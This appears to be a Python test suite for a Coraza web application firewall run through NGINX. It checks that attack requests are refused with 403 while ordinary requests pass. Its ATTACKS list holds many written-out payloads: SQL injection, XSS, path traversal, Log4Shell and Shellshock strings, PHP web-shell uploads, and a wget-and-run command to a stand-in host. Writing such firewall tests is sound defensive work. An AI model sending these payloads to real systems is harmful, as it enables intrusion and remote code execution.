"""Coraza, the OWASP WAF with its core rule set as it is (paranoia 1), through NGINX: attacks get 403, ordinary requests their answers."""
import json
import pathlib
import time
import urllib.parse

import guests
from cases import Skip, case, each, equal, site
from client import Connection, h2, message, request
from harness import plugin

ROOT = guests.TESTS.parent
BROWSER = [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"), ("Accept", "text/html,application/json;q=0.9,*/*;q=0.8")]


def coraza():
    found = plugin("coraza*.wasm")
    if not found:
        raise Skip("the Coraza plugin is not built (make plugins)")
    return found


@site
def waf(t):
    n = t.nginx("", "location / { proxy_pass http://up; }")
    n.write(f"weir_plugin waf {coraza()} config={ROOT}/plugins/coraza/coraza.json memory=512m timeout=2s on_error=closed;", """
      weir waf;
      location / { proxy_pass http://up; }
      location /files/ { alias {dir}/www/; types { text/html html; text/plain txt; } }
      location /zip/ { gzip on; gzip_min_length 1; gzip_types text/plain; proxy_pass http://up/; }
    """)
    n.file("www/page.html", "<html><body><p>It's a page, with \"quotes\" &amp; more.</p></body></html>")
    n.file("www/leak.txt", "Error: You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax near 'x'")
    n.file("www/source.txt", "before <?php $password = fopen('/etc/passwd', 'r'); echo fread($password, 100); ?> after")
    return n.start(seconds=180)


def q(text):
    return urllib.parse.quote(text, safe="")


def form(**fields):
    return [("Content-Type", "application/x-www-form-urlencoded")], urllib.parse.urlencode(fields).encode()


def as_json(value):
    return [("Content-Type", "application/json")], json.dumps(value).encode()


def multipart(*parts):
    boundary = "----weir7MA4YWxkTrZu0gW"
    body = b"".join(f'--{boundary}\r\nContent-Disposition: form-data; {head}\r\n\r\n'.encode() + data + b"\r\n" for head, data in parts)
    return [("Content-Type", f"multipart/form-data; boundary={boundary}")], body + f"--{boundary}--\r\n".encode()


def row(name, target, headers=(), body=b"", method=None):
    return name, method or ("POST" if body else "GET"), target, list(headers), body


# class: what an attacker sends, from the public descriptions of each class; none was chosen by looking at the rules
ATTACKS = [
    row("sqli: tautology", "/items?id=" + q("1' OR '1'='1' -- ")),
    row("sqli: union", "/items?id=" + q("-1 UNION SELECT username, password FROM users--")),
    row("sqli: sleep", "/items?id=" + q("1; SELECT SLEEP(5)-- -")),
    row("sqli: stacked", "/items?name=" + q("x'; DROP TABLE users;--")),
    row("sqli: in the form", "/login", *form(user="admin' OR 1=1#", password="x")),
    row("sqli: in JSON", "/api", *as_json({"filter": {"name": "x' UNION SELECT null, version()-- "}})),
    row("sqli: in a cookie", "/", [("Cookie", "session=1' OR '1'='1' UNION SELECT password FROM users--")]),
    row("xss: script", "/search?q=" + q("<script>alert(document.cookie)</script>")),
    row("xss: event handler", "/search?q=" + q("<img src=x onerror=alert(1)>")),
    row("xss: javascript link", "/search?q=" + q('<a href="javascript:alert(1)">x</a>')),
    row("xss: svg in the form", "/comment", *form(text="<svg/onload=alert(1)>")),
    row("xss: in the referer", "/", [("Referer", "http://a.test/<script>alert(1)</script>")]),
    row("traversal: argument", "/show?file=" + q("../../../../etc/passwd")),
    row("traversal: encoded twice", "/show?file=" + q(q("../../../etc/shadow"))),
    row("traversal: backslashes", "/show?file=" + q("..\\..\\..\\windows\\win.ini")),
    row("traversal: in the form", "/show", *form(file="../../../../../../etc/passwd")),
    row("lfi: restricted file", "/.git/config"),
    row("lfi: dot env", "/.env"),
    row("rfi: address", "/index?page=" + q("http://192.0.2.7/shell.txt?")),
    row("rce: cat", "/ping?host=" + q("127.0.0.1; cat /etc/passwd")),
    row("rce: substitution", "/ping?host=" + q("$(wget http://192.0.2.7/x.sh -O /tmp/x; sh /tmp/x)")),
    row("rce: powershell", "/run?cmd=" + q("powershell.exe -NoProfile -EncodedCommand ZQBjAGgAbwA=")),
    row("rce: shellshock", "/cgi-bin/status", [("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")]),
    row("rce: log4shell", "/", [("X-Api-Version", "${jndi:ldap://192.0.2.7:1389/a}")]),
    row("rce: php", "/page?x=" + q("<?php system($_GET['c']); ?>")),
    row("rce: php upload", "/upload", *multipart(('name="f"; filename="shell.php"', b"<?php eval($_POST['x']); ?>"))),
    row("rce: node", "/page?x=" + q("require('child_process').exec('id')")),
    row("rce: java", "/page", *form(x="java.lang.Runtime.getRuntime().exec('id')")),
    row("scanner: sqlmap", "/", [("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")]),
    row("scanner: nikto", "/", [("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)")]),
    row("scanner: nmap", "/", [("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")]),
    row("protocol: method", "/", method="DELETE"),
    row("protocol: response splitting", "/go?to=" + q("x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html")),
    row("protocol: content type", "/api", [("Content-Type", "application/x-evil")], b"data"),
]


def browser(headers):
    """A browser's headers where the row has none of its own."""
    mine = {n.lower() for n, _ in headers}
    return [(n, v) for n, v in BROWSER if n.lower() not in mine] + headers


LOG = r"weir: \[waf\]"  # the WAF itself says what it found, at level crit


def refused(t, r, count, body):
    """403, and nothing of the upstream's answer. Without a body Coraza looks at the arguments only when the response comes (its phase 2 waits for a
    body callback), on other proxies too: the upstream may have seen that request. One with a body never gets there."""
    equal((r.status, r.values("x-upstream")), (403, []))
    if body:
        equal(t.up.count, count)


@each(ATTACKS, waf, log=LOG)
def attack(t, n, method, target, headers, body):
    count = t.up.count
    refused(t, request(n.port, target, browser(headers), body, method=method), count, body)


@each(ATTACKS, waf, log=LOG)
def attack_http2(t, n, method, target, headers, body):
    count = t.up.count
    r = h2(n.tls, target, browser(headers) + [("Host", "weir.test")], body or None, method=method, tls=True, early=True)
    refused(t, r, count, body)


LONG = ("Dear all,\nplease find the minutes of our meeting below. We've agreed on 3 points; the 2nd one (50% done) is due on Friday.\n" * 700).encode()
ORDINARY = [
    row("home", "/"),
    row("page", "/docs/getting-started.html"),
    row("search", "/search?q=" + q("how to bake bread")),
    row("paging", "/items?page=2&per_page=50&sort=-created"),
    row("name with apostrophe", "/people?name=" + q("O'Brien")),
    row("unicode", "/search?q=" + q("café zürich 東京")),
    row("login form", "/login", *form(user="alice", password="correct horse battery staple")),
    row("comment", "/comment", *form(text="Thanks, that works! 2 > 1, isn't it?")),
    row("json", "/api/orders", *as_json({"items": [{"sku": "A-17", "count": 2}], "note": "please ring twice"})),
    row("nested json", "/api", *as_json({"a": {"b": {"c": [1, 2.5, None, True, "text"]}}})),
    row("upload", "/upload", *multipart(('name="title"', b"A picture"), ('name="f"; filename="photo.jpg"', b"\xff\xd8\xff\xe0" + bytes(range(256)) * 8))),
    row("long form", "/mail", [("Content-Type", "application/x-www-form-urlencoded")], b"text=" + urllib.parse.quote_plus(LONG[:8000]).encode()),
    row("cookies", "/", [("Cookie", "session=3f9ac2; theme=dark; lang=en-GB")]),
    row("bearer token", "/api/me", [("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N")]),
    row("referer", "/next", [("Referer", "https://www.example.com/search?q=shoes&size=42")]),
    row("range", "/sized/100", [("Range", "bytes=0-9")]),
    row("conditional", "/status/200", [("If-None-Match", '"v0"')]),
    row("missing page", "/status/404"),
    row("chunked answer", "/chunked/100/50"),
    row("dripping answer", "/drip/5/20"),
    row("static page", "/files/page.html"),
    row("head", "/", method="HEAD"),
    row("options", "/api", method="OPTIONS"),
]


def check_ordinary(t, n, r, method, target, body):
    equal(r.status, 404 if "404" in target else 200)
    assert r.complete
    if target.startswith("/chunked/"):
        equal(r.body, b"".join((b"c%d" % (i % 10)).ljust(100, b".") for i in range(50)))
    elif target.startswith("/drip/"):
        equal(r.body, b"c0...c1...c2...c3...c4...")
    elif target.startswith("/files/"):
        equal(r.body, (n.dir / "www/page.html").read_bytes())
    elif not target.startswith(("/status", "/sized")):
        equal((t.up.last().target, t.up.last().method, t.up.last().body == body), (target, method, True))
        assert method == "HEAD" or r.body.endswith(body), r


@each(ORDINARY, waf)
def ordinary(t, n, method, target, headers, body):
    check_ordinary(t, n, request(n.port, target, browser(headers), body, method=method), method, target, body)


@each(ORDINARY, waf)
def ordinary_http2(t, n, method, target, headers, body):
    r = h2(n.tls, target, browser(headers) + [("Host", "weir.test")], body or None, method=method, tls=True)
    check_ordinary(t, n, r, method, target, body)


@each([("sql error", "/files/leak.txt", b"SQL syntax"), ("php source", "/files/source.txt", b"fread")], waf, log=LOG)
def leak_in_the_response_body_is_not_delivered(t, n, target, secret):
    for r in (request(n.port, target, BROWSER), h2(n.tls, target, BROWSER + [("Host", "weir.test")], tls=True)):
        assert secret not in r.body, r


@case(waf, log=LOG)
def chunked_attack_in_small_pieces(t, n):
    """The rule sees the whole body, wherever it is cut."""
    body = b"user=admin&comment=" + q("<script>alert(document.cookie)</script>").encode()
    r = request(n.port, "/login", browser(form()[0]), chunks=[body[i:i + 3] for i in range(0, len(body), 3)])
    equal(r.status, 403)


@case(waf, log=LOG)
def attack_after_10_kb(t, n):
    body = b"text=" + b"a" * 10000 + b"&x=" + q("1' UNION SELECT password FROM users-- ").encode()
    equal(request(n.port, "/login", browser(form()[0]), body).status, 403)


@case(waf, log=LOG)
def gzip_behind_the_waf(t, n):
    import gzip
    r = request(n.port, "/zip/sized/2000", BROWSER + [("Accept-Encoding", "gzip")])
    equal((r.get("content-encoding"), gzip.decompress(r.body)), ("gzip", b"s" * 2000))


@case(waf, log=LOG)
def kept_connection_alternates(t, n):
    with Connection(n.port) as c:
        for i in range(10):
            bad = i % 2
            c.send(message("GET", "/items?id=" + (q("1' OR '1'='1' -- ") if bad else str(i)), BROWSER))
            equal(c.read().status, 403 if bad else 200)


@case(waf, log=LOG)
def parallel_requests(t, n):
    import threading
    wrong, lock = [], threading.Lock()

    def one(i):
        for k in range(8):
            name, method, target, headers, body = (ATTACKS if (i + k) % 2 else ORDINARY)[(i * 8 + k) % 20]
            r = request(n.port, target, browser(headers), body, method=method, timeout=30)
            if (r.status == 403) != bool((i + k) % 2):
                with lock:
                    wrong.append((name, r.status))
    threads = [threading.Thread(target=one, args=(i,)) for i in range(6)]
    [x.start() for x in threads]
    [x.join() for x in threads]
    equal(wrong, [])


@case()
def starts_from_the_cache(t):
    n = t.nginx("", "weir waf; location / { proxy_pass http://up; }")
    n.write(f"weir_plugin waf {coraza()} config={ROOT}/plugins/coraza/coraza.json memory=512m timeout=2s;", "weir waf; location / { proxy_pass http://up; }")
    n.start(seconds=180)
    n.stop()
    start = time.monotonic()
    n.start()
    equal(request(n.port, "/", BROWSER).status, 200)
    seconds = time.monotonic() - start
    assert seconds < 6, f"{seconds:.1f} s with a filled cache"  # 1.5 s on a quiet machine: bench/nginx_bench.py measures it
